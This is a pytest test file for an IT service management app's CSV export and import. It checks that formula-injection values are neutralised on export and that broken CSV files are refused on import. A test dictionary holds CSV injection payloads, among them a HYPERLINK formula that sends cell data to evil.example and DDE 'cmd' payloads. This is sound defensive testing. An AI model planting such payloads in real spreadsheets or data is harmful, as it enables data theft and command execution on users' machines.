"""CSV safety (issue 13, defect 4): exports a spreadsheet opens safely, imports that refuse broken files."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from itsm_ai.data import export
from itsm_ai.data.import_report import ImportFileError
from itsm_ai.data.importer import import_csv
from itsm_ai.database import get_session
from itsm_ai.reports import tabular
from itsm_ai.ticket.models import Incident

API = "/api/v1"
HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': "formula",
    "+cmd|' /C calc'!A0": "plus",
    "-2+3+cmd|' /C calc'!A0": "minus",
    "@SUM(1+1)*cmd|' /C calc'!A0": "at",
    "\t=1+1": "tab",
}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _seed_hostile(client, users) -> None:
    agent = users["agent"].headers
    for title, tag in HOSTILE.items():
        body = {
            "short_description": title,
            "description": "first\rsecond\r\nthird",
            "caller": "requester",
            "extra": {"tag": tag, "hosts": ["a", "b"], "nested": {"n": -1}},
        }
        response = client.post(f"{API}/incidents", json=body, headers=agent)
        assert response.status_code == 201, response.text


def _check_export(text: str) -> None:
    rows = _rows(text)
    assert len(rows) == len(HOSTILE)
    by_tag = {json.loads(r["extra"])["tag"]: r for r in rows}
    for title, tag in HOSTILE.items():
        row = by_tag[tag]
        # The apostrophe makes the spreadsheet show text; the rest of the value is kept exactly.
        assert row["short_description"] == "'" + title
        assert json.loads(row["extra"]) == {"tag": tag, "hosts": ["a", "b"], "nested": {"n": -1}}
        assert row["configuration_items"] == "[]"
        # A bare \r is quoted, so the row does not split: the value comes back whole.
        assert row["description"].replace("\r\n", "\n") == "first\rsecond\nthird"
        assert int(row["priority"]) >= 1 and not row["priority"].startswith("'")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).isdigit(), (column, cell)
            assert "{'" not in cell, (column, cell)  # no Python repr of a dict


def test_api_csv_export_neutralises_formulas_and_writes_json(client, users):
    _seed_hostile(client, users)
    response = client.get(
        f"{API}/export/incidents", params={"format": "csv"}, headers=users["data_scientist"].headers
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    _check_export(response.content.decode("utf-8"))


def test_cli_csv_export_uses_the_same_writer(client, users, cli, tmp_path):
    _seed_hostile(client, users)
    target = tmp_path / "incidents.csv"
    result = cli("export", "--type", "incident", "--format", "csv", "--output", target)
    assert result.exit_code == 0, result.output
    _check_export(target.read_bytes().decode("utf-8"))


def test_the_shared_writer_keeps_numbers_and_writes_containers_as_json():
    import numpy as np
    import pandas as pd

    frame = pd.DataFrame(
        {
            "n": [-3, 4],
            "x": [-0.123456789, float("nan")],
            "when": pd.to_datetime(["2024-01-02T03:04:05Z", None], utc=True),
            "tags": [["a", "b"], {"k": (1, 2)}],
            "text": ["-3", "plain"],
        }
    )
    buffer = io.StringIO()
    assert export.write_csv(frame, buffer) == 2
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    # Exports keep every digit of a float (reports round to 6).
    assert rows[1] == ["-3", "-0.123456789", "2024-01-02 03:04:05+00:00", '["a", "b"]', "'-3"]
    assert rows[2] == ["4", "", "", '{"k": [1, 2]}', "plain"]
    assert tabular.safe_cell(np.int64(-7)) == -7 and tabular.safe_cell(np.float64(-1.25)) == -1.25
    assert tabular.safe_cell(Decimal("-2.5")) == -2.5
    assert tabular.safe_cell("a\rb") == "a\rb" and '"a\rb"' in tabular.to_csv([{"c": "a\rb"}], ["c"])


# ------------------------------------------------------------------------------------------------ import


def _write(tmp_path, name: str, text: str):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def _incidents() -> int:
    with get_session() as session:
        return session.query(Incident).count()


def test_an_unclosed_quote_at_the_end_is_an_error_with_its_line(db, cli, tmp_path):
    path = _write(tmp_path, "open.csv", 'title,note\nfirst,ok\nsecond,"never closed\nthird,x\nfourth,y\n')
    with pytest.raises(ImportFileError, match="line 3") as caught:
        import_csv(path=path, mapping={"short_description": "title"})
    assert "never closed" in caught.value.message
    result = cli("import", path, "--map", "short_description=title")
    assert result.exit_code == 2, result.output
    assert "line 3" in result.output and "never closed" in result.output
    assert _incidents() == 0


def test_an_unclosed_quote_closed_rows_later_is_an_error_with_its_line(db, cli, tmp_path):
    # The quote opened on line 2 closes at the quote that starts line 4's value: rows 3 and 4 would vanish.
    path = _write(tmp_path, "swallow.csv", 'title,note\nfirst,"open\nsecond,x\nthird,"y"\nfourth,z\n')
    result = cli("import", path, "--map", "short_description=title")
    assert result.exit_code == 2, result.output
    assert "line 2" in result.output and "line 4" in result.output
    assert _incidents() == 0


def test_a_quoted_value_over_several_lines_still_imports(db, tmp_path):
    path = _write(tmp_path, "multi.csv", 'title,description\n"one","line a\nline ""b"""\ntwo,plain\n')
    report = import_csv(path=path, mapping={"short_description": "title"})
    assert report.imported == 2 and report.ok


def test_a_duplicate_header_is_an_error_naming_it(db, cli, tmp_path):
    path = _write(tmp_path, "dup.csv", "short_description,category,short_description\na,network,b\n")
    with pytest.raises(ImportFileError) as caught:
        import_csv(path=path)
    assert caught.value.field == "short_description"
    assert "'short_description' appears twice" in caught.value.message
    result = cli("import", path)
    assert result.exit_code == 2 and "short_description" in result.output and "twice" in result.output
    assert _incidents() == 0


def test_columns_named_like_fields_map_themselves_and_the_rest_are_reported(db, cli, tmp_path):
    path = _write(
        tmp_path,
        "named.csv",
        "Short_Description,category,extra.site,Legacy ID,notes\n"
        "Printer jams,hardware,Leeds,L-1,call back\n"
        "VPN drops,network,York,L-2,\n",
    )
    report = import_csv(path=path)
    assert report.imported == 2
    assert report.self_mapped == {
        "short_description": "Short_Description",
        "category": "category",
        "extra.site": "extra.site",
    }
    assert report.unmapped_columns == ["Legacy ID", "notes"]
    with get_session() as session:
        stored = {i.short_description: i for i in session.query(Incident)}
    assert stored["Printer jams"].category == "hardware" and stored["VPN drops"].extra["site"] == "York"

    # An explicit mapping wins over the column of the same name, which is then reported as not imported.
    again = _write(tmp_path, "again.csv", "short_description,title\nignored,Disk full\n")
    result = cli("import", again, "--map", "short_description=title")
    assert result.exit_code == 0, result.output
    assert "columns not imported" in result.output and "'short_description'" in result.output
    with get_session() as session:
        assert session.query(Incident).filter_by(short_description="Disk full").count() == 1
